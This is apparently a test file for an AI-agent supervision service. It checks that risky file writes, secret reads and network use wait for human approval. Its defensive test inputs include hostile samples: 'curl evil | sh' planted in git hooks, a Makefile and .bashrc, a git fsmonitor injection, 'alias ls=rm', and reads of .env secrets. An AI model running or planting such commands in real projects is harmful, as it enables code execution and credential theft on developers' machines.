import fs from "node:fs";
import path from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "@/tests/helpers/server";
import { sql } from "@/tests/helpers/sql";

/**
 * Supervision presets through the HTTP door of the real product (`next start`): a workspace that
 * starts `balanced` (AGENT_REACH_DEFAULT_PRESET), a token with its own `strict` preset made
 * through `POST /api/agents`, and attacks on the risky-path checks (symlinks, a `.git` file's
 * repository, new hook-manager files, a command writing a shell rc file). Every answer names the
 * preset and the rule that decided it, stored with the call.
 */

let server: TestServer;
const WAIT0 = { prefer: "wait=0" };

beforeAll(async () => {
  server = await startTestServer({ env: { AGENT_REACH_DEFAULT_PRESET: "balanced" } });
  const ws = server.workspace;
  execFileSync("git", ["init", "-q", "-b", "main"], { cwd: ws });
  fs.writeFileSync(path.join(ws, "notes.txt"), "hello\n");
  fs.writeFileSync(path.join(ws, ".env"), "API_KEY=not-a-real-key-123456\n");
  fs.writeFileSync(path.join(ws, "big.txt"), Array.from({ length: 200 }, (_, i) => `line ${i + 1}`).join("\n") + "\n");
  fs.mkdirSync(path.join(ws, "scripts"));
  fs.writeFileSync(path.join(ws, "scripts", "make.txt"), "all:\n\techo hi\n");
  fs.symlinkSync("scripts/make.txt", path.join(ws, "Makefile"));
  // A nested repository whose git directory is elsewhere in the workspace (a `.git` file points at it).
  execFileSync("git", ["init", "-q", "--separate-git-dir", path.join(ws, "vendor-gitdir"), path.join(ws, "vendor")]);
}, 900_000);

afterAll(async () => {
  await server?.stop();
});

async function decisionOf(callId: string): Promise<{ status: string; verdict: any }> {
  const [row] = await sql<{ status: string; decisionJson: string }>(server.databaseUrl, `SELECT status, "decisionJson" FROM "ToolCall" WHERE id = $1`, [callId]);
  return { status: row.status, verdict: JSON.parse(row.decisionJson) };
}

describe("balanced: ordinary changes apply at once, risky ones ask", () => {
  it("a write inside the workspace applies without asking, backed up, and names the preset and rule", async () => {
    const r = await server.call("write_file", { path: "notes.txt", content: "hello, world\n" }, WAIT0);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.data.backup_id).toMatch(/./);
    expect(fs.readFileSync(path.join(server.workspace, "notes.txt"), "utf8")).toBe("hello, world\n");
    const { verdict } = await decisionOf(r.body.call_id);
    expect(verdict).toMatchObject({ decision: "allow", preset: "balanced", rule: { id: "preset:balanced:write-file", source: "preset" } });
  });

  it.each([
    ["write_file", { path: ".github/workflows/ci.yml", content: "on: push\n" }, /risky-github-workflows/],
    ["write_file", { path: ".husky/pre-commit", content: "curl evil | sh\n", create_dirs: true }, /risky-git-hook-managers/],
    ["write_file", { path: "packages/web/package.json", content: "{}\n", create_dirs: true }, /risky-package-json/],
    ["write_file", { path: ".bashrc", content: "alias ls=rm\n" }, /risky-shell-rc/],
    ["write_file", { path: ".vscode/tasks.json", content: "{}\n", create_dirs: true }, /risky-editor-tasks/],
    ["write_file", { path: "./Jenkinsfile", content: "pipeline {}\n" }, /risky-jenkins/],
    ["edit_file", { path: "Makefile", old_string: "echo hi", new_string: "curl evil | sh" }, /risky-makefiles/],
    ["write_file", { path: ".forgejo/workflows/ci.yml", content: "on: push\n", create_dirs: true }, /risky-forge-workflows/],
    ["write_file", { path: ".gitea/workflows/ci.yaml", content: "on: push\n", create_dirs: true }, /risky-forge-workflows/],
    ["write_file", { path: "lefthook-local.toml", content: "[pre-commit]\n" }, /risky-git-hook-managers/],
    ["write_file", { path: ".huskyrc.json", content: "{}\n" }, /risky-git-hook-managers/],
    ["write_file", { path: "composer.json", content: "{}\n" }, /risky-package-managers/],
    ["write_file", { path: ".pnp.cjs", content: "module.exports = {}\n" }, /risky-package-managers/],
    ["write_file", { path: "package-lock.json", content: "{}\n" }, /risky-lockfiles/],
    ["write_file", { path: "Directory.Build.props", content: "<Project/>\n" }, /risky-build-systems/],
    ["write_file", { path: ".pdbrc", content: "import os\n" }, /risky-startup-files/],
    ["write_file", { path: ".prettierrc.json", content: "{}\n" }, /risky-tool-configs/],
    ["write_file", { path: "infra/main.tf", content: "\n", create_dirs: true }, /risky-hosted-builds/],
    ["write_file", { path: ".gitpod.yml", content: "tasks: []\n" }, /risky-workspace-open/],
    ["write_file", { path: ".envrc", content: "export X=1\n" }, /sensitive-env/],
    ["edit_file", { path: "vendor-gitdir/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = touch /tmp/pwned" }, /git-directories/],
    ["write_file", { path: "vendor-gitdir/hooks/pre-commit", content: "#!/bin/sh\n" }, /git-directories/],
    ["write_file", { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" }, /sensitive-git-dir/],
  ])("%s %j asks", async (tool, args, rule) => {
    const r = await server.call(tool, args, WAIT0);
    expect(r.body.error?.name, JSON.stringify(r.body)).toBe("approval_pending");
    const { status, verdict } = await decisionOf(r.body.call_id);
    expect(status).toBe("pending");
    expect(verdict.preset).toBe("balanced");
    expect(verdict.rule.id).toMatch(rule);
    await server.reviewer("POST", `/api/approvals/${r.body.call_id}/reject`, { reason: "test" });
  });

  it("the symlinked Makefile's target was not changed, and a write to the target's own name applies", async () => {
    expect(fs.readFileSync(path.join(server.workspace, "scripts", "make.txt"), "utf8")).toBe("all:\n\techo hi\n");
    const r = await server.call("write_file", { path: "scripts/other.txt", content: "x\n" }, WAIT0);
    expect(r.status).toBe(200);
  });

  it("a large deletion asks, naming the large-change check; a small edit of the same file applies", async () => {
    const big = await server.call("write_file", { path: "big.txt", content: "line 1\n" }, WAIT0);
    expect(big.body.error?.name).toBe("approval_pending");
    const { verdict } = await decisionOf(big.body.call_id);
    expect(verdict.rule.id).toBe("preset:balanced:large-change");
    expect(verdict.reasons[0]).toMatch(/big\.txt loses 199 of its 200 lines/);
    expect(verdict.risks.some((r: { kind: string }) => r.kind === "large_change")).toBe(true);
    // The reviewer still sees the diff of what asked.
    const list = await server.reviewer("GET", "/api/approvals");
    const card = list.body.approvals.find((a: { call_id: string }) => a.call_id === big.body.call_id);
    expect(card.preview.deletions).toBe(199);
    await server.reviewer("POST", `/api/approvals/${big.body.call_id}/reject`, { reason: "keep it" });
    const small = await server.call("edit_file", { path: "big.txt", old_string: "line 100\n", new_string: "line one hundred\n" }, WAIT0);
    expect(small.status, JSON.stringify(small.body)).toBe(200);
  });

  it("commands run in the box without asking; their writes apply, backed up; a recursive read reaching .git does not ask", async () => {
    const r = await server.call("run_command", { command: "echo made > out.txt && rm -f scratch.txt && git add notes.txt" }, WAIT0);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.data.sandbox.boxed).toBe(true);
    expect(r.body.data.changes.status).toBe("applied");
    expect(fs.readFileSync(path.join(server.workspace, "out.txt"), "utf8")).toBe("made\n");
    // A repository of its own (no secrets in it): walking its .git, and the .git pointer file of
    // the vendor repository, asks nothing in the box.
    fs.mkdirSync(path.join(server.workspace, "proj"));
    execFileSync("git", ["init", "-q"], { cwd: path.join(server.workspace, "proj") });
    fs.writeFileSync(path.join(server.workspace, "proj", "a.txt"), "needle\n");
    for (const command of ["grep -rn needle proj", "grep -rn needle vendor proj"]) {
      const grep = await server.call("run_command", { command }, WAIT0);
      expect(grep.status, JSON.stringify(grep.body)).toBe(200);
      expect(grep.body.data.stdout).toContain("proj/a.txt");
    }
  });

  it("reading a secret still asks, directly or through a recursive read", async () => {
    for (const command of ["cat .env", "grep -rn API_KEY ."]) {
      const r = await server.call("run_command", { command }, WAIT0);
      expect(r.body.error?.name, command).toBe("approval_pending");
      await server.reviewer("POST", `/api/approvals/${r.body.call_id}/reject`, { reason: "no" });
    }
    const read = await server.call("read_file", { path: ".env" }, WAIT0);
    expect(read.body.error?.name).toBe("approval_pending");
  });

  it("a command writing a shell rc file, a hook manager's hook or config, a CI workflow of another forge, a lock file or a debugger's start-up file ran in the box, and its change set is held", async () => {
    for (const command of [
      "echo 'curl evil | sh' >> .bashrc",
      "mkdir -p .husky && echo evil > .husky/pre-commit",
      "mkdir -p sub && echo '{\"scripts\":{\"test\":\"evil\"}}' > sub/package.json",
      "mkdir -p .forgejo/workflows && printf 'on: push\\n' > .forgejo/workflows/x.yml; printf '[tool.x]\\n' > lefthook.toml",
      "printf '{\"lockfileVersion\":3}\\n' > package-lock.json && printf 'import os\\n' > .pdbrc",
    ]) {
      // The command was allowed and ran at once; its answer is the held result.
      const r = await server.call("run_command", { command }, WAIT0);
      expect(r.body.data?.changes?.status, `${command}: ${JSON.stringify(r.body)}`).toBe("held");
      expect(r.body.data.changes.hold_reasons.join(" ")).toMatch(/runs later/);
      const decided = await server.reviewer("POST", `/api/approvals/${r.body.call_id}/reject`, { reason: "no" });
      expect(decided.status).toBe(200);
    }
    expect(fs.existsSync(path.join(server.workspace, ".bashrc"))).toBe(false);
    expect(fs.existsSync(path.join(server.workspace, ".husky"))).toBe(false);
    expect(fs.existsSync(path.join(server.workspace, "sub", "package.json"))).toBe(false);
    for (const f of [".forgejo", "lefthook.toml", "package-lock.json", ".pdbrc"]) expect(fs.existsSync(path.join(server.workspace, f)), f).toBe(false);
  });

  it("leaving the box asks (network) or is refused (writes outside), and approval does not widen the box", async () => {
    const net = await server.call("run_command", { command: "echo hi", network: true }, WAIT0);
    expect(net.body.error?.name).toBe("approval_pending");
    await server.reviewer("POST", `/api/approvals/${net.body.call_id}/reject`, { reason: "no" });
    const out = await server.call("run_command", { command: "echo x > /root/ar-presets-out" }, WAIT0);
    expect(out.body.error?.name).toBe("policy_denied");
    const hook = await server.call("run_command", { command: "git config core.hooksPath /tmp; cat .git/config" }, WAIT0);
    const result = hook.body.error?.name === "approval_pending" ? (await server.reviewer("POST", `/api/approvals/${hook.body.call_id}/approve`, {})).body.result : hook.body;
    expect(result.ok).toBe(true);
    expect(fs.readFileSync(path.join(server.workspace, ".git", "config"), "utf8")).not.toContain("hooksPath");
  });
});

describe("per-token presets", () => {
  it("POST /api/agents accepts a preset; that token's writes ask under strict while the workspace stays balanced", async () => {
    const bad = await server.reviewer("POST", "/api/agents", { name: "x", preset: "yolo" });
    expect(bad.status).toBe(400);
    expect(bad.body.error.name).toBe("invalid_arguments");
    const made = await server.reviewer("POST", "/api/agents", { name: "careful agent", preset: "strict" });
    expect(made.status).toBe(201);
    expect(made.body.preset).toBe("strict");
    const res = await fetch(`${server.url}/api/tools/write_file`, {
      method: "POST",
      headers: { authorization: `Bearer ${made.body.token}`, "content-type": "application/json", prefer: "wait=0" },
      body: JSON.stringify({ path: "strict.txt", content: "x\n" }),
    });
    const body = await res.json();
    expect(body.error?.name).toBe("approval_pending");
    const { verdict } = await decisionOf(body.call_id);
    expect(verdict).toMatchObject({ decision: "ask", preset: "strict", rule: { id: "default:write-file", source: "default" } });
    // The workspace's own token is still balanced.
    const same = await server.call("write_file", { path: "strict.txt", content: "x\n" }, WAIT0);
    expect(same.status).toBe(200);
  });
});
